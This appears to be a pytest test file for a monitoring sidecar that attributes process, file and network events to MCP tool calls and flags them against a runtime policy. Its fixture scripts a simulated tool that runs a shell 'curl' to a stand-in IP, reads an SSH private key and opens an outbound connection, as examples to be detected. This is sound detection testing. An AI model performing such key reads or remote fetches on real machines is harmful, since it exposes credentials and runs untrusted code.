"""`mcpfault probe-sidecar --backend fake`, driven by mcpfz_probe's own SidecarRuntimeMonitor."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path

import pytest
from mcpfz_probe import RuntimePolicy, SidecarRuntimeMonitor, evaluate_events

SCRIPT = {
    "events": [
        {"trigger": "startup", "event": {"type": "exec", "pid": 1000, "argv": ["/usr/lib/mcp-server"]}},
        {"trigger": "scope", "event": {"type": "connect", "pid": 1000, "proto": "udp", "dst": "10.0.0.1:53"}},
        {"trigger": "begin", "tool": "get_time", "event": {"type": "exec", "pid": 10, "argv": ["/usr/bin/date"]}},
        {
            "trigger": "begin",
            "tool": "fetch_url",
            "event": {"type": "exec", "pid": 20, "argv": ["/bin/sh", "-c", "curl http://198.51.100.9/x"]},
        },
        {
            "trigger": "begin",
            "tool": "fetch_url",
            "event": {"type": "file_open", "pid": 20, "path": "/home/agent/.ssh/id_ed25519", "flags": "O_RDONLY"},
        },
        {
            "trigger": "end",
            "tool": "fetch_url",
            "event": {"type": "connect", "pid": 20, "proto": "tcp", "dst": "198.51.100.9:80"},
        },
    ]
}


def sidecar_command(events: Path) -> list[str]:
    return [sys.executable, "-m", "mcpfault", "probe-sidecar", "--backend", "fake", "--events-file", str(events)]


@pytest.fixture
def events_file(tmp_path: Path) -> Path:
    path = tmp_path / "events.json"
    path.write_text(json.dumps(SCRIPT))
    return path


def wait_for(predicate, timeout_s: float = 10.0) -> None:
    deadline = time.monotonic() + timeout_s
    while not predicate():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.01)


def test_the_monitor_gets_each_calls_events_and_the_policy_flags_them(events_file: Path, tmp_path: Path) -> None:
    raw = tmp_path / "raw.jsonl"
    monitor = SidecarRuntimeMonitor(sidecar_command(events_file), raw_path=raw)
    monitor.start()
    try:
        monitor.set_scope_pgid(4321, generation=1)
        monitor.begin_call("c1", "get_time")
        first = monitor.end_call("c1")
        monitor.begin_call("c2", "fetch_url")
        second = monitor.end_call("c2")
        ambient = monitor.ambient_events()
    finally:
        monitor.stop()
    assert [e.type for e in first.events] == ["status", "exec", "status"]
    assert first.events[1].data["argv"] == ["/usr/bin/date"] and first.events[1].bucket == "call"
    assert [e.type for e in second.events if e.type != "status"] == ["exec", "file_open", "connect"]
    assert all(e.call_id == "c2" and e.bucket == "call" for e in second.events)
    assert not second.truncated
    # start-up and scope events are ambient to the monitor, in the buckets mcpfz-probe's fake gives them
    buckets = {(e.type, e.bucket) for e in ambient}
    assert ("exec", "startup") in buckets and ("connect", "ambient") in buckets
    messages = [e.data.get("message") for e in ambient if e.type == "status"]
    assert messages == ["ready", "scope"]
    policy = RuntimePolicy(workspace=tmp_path, tmpdir=tmp_path, exec_allow=("/usr/bin/date",))
    assert evaluate_events(first.events, policy) == []
    categories = sorted(f.category for f in evaluate_events(second.events, policy))
    assert categories == ["runtime.exec", "runtime.net_connect", "runtime.sensitive_read"]
    # the raw capture is the protocol as written: one JSON object per line, each with ts_ns
    lines = [json.loads(line) for line in raw.read_text().splitlines()]
    assert all(isinstance(line["ts_ns"], int) for line in lines)


def test_overlapping_calls_make_their_events_ambiguous(events_file: Path, tmp_path: Path) -> None:
    monitor = SidecarRuntimeMonitor(sidecar_command(events_file))
    monitor.start()
    try:
        monitor.set_scope_pgid(4321, generation=1)
        monitor.begin_call("a", "get_time")
        monitor.begin_call("b", "fetch_url")  # "a" is still open: b's begin events could be a's
        a = monitor.end_call("a")
        b = monitor.end_call("b")
        ambient = monitor.ambient_events()
    finally:
        monitor.stop()
    assert [e.type for e in a.events if e.type != "status"] == ["exec"]  # before b began: a's alone
    ambiguous = [e for e in ambient if e.data.get("ambiguous")]
    assert [e.type for e in ambiguous] == ["exec", "file_open"]
    assert all(e.bucket == "ambient" and e.data["candidates"] == ["a", "b"] for e in ambiguous)
    assert [e.type for e in b.events if e.type != "status"] == ["connect"]  # at b's end only b was open


def run_sidecar(events: Path, controls: list[dict]) -> list[dict]:
    lines = "".join(json.dumps(c) + "\n" for c in controls)
    done = subprocess.run(sidecar_command(events), input=lines, capture_output=True, text=True, timeout=60, check=True)
    return [json.loads(line) for line in done.stdout.splitlines()]


def test_the_fake_is_deterministic_and_answers_bad_control_lines(events_file: Path) -> None:
    controls: list[dict] = [
        {"op": "scope", "pgid": 7, "generation": 1},
        {"op": "mark", "phase": "begin", "call_id": "x", "tool": "fetch_url"},
        {"op": "mark", "phase": "sideways", "call_id": "x"},
        {"op": "mark", "phase": "end", "call_id": "x"},
        {"op": "dance"},
        {"op": "shutdown"},
        {"op": "mark", "phase": "begin", "call_id": "never", "tool": "fetch_url"},
    ]
    runs = [run_sidecar(events_file, controls) for _ in range(2)]
    for lines in runs:
        for line in lines:
            del line["ts_ns"]
    assert runs[0] == runs[1]
    statuses = [line["message"] for line in runs[0] if line["type"] == "status"]
    assert statuses == ["ready", "scope", "begin", "unknown_phase", "end", "parse_error"]
    assert not any(line.get("call_id") == "never" for line in runs[0])  # nothing after shutdown


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("{not json", "not JSON"),
        ('{"events": [{"trigger": "later", "event": {"type": "exec"}}]}', "events[0]: 'trigger' must be one of"),
        ('[{"trigger": "begin", "event": {"argv": []}}]', "events[0]: 'event' must be an object with a string 'type'"),
    ],
)
def test_a_bad_events_file_is_one_clear_line_and_exit_2(tmp_path: Path, content: str, expected: str) -> None:
    path = tmp_path / "bad.json"
    path.write_text(content)
    done = subprocess.run(sidecar_command(path), input="", capture_output=True, text=True, timeout=60)
    assert done.returncode == 2
    assert done.stdout == ""
    assert len(done.stderr.strip().splitlines()) == 1 and expected in done.stderr
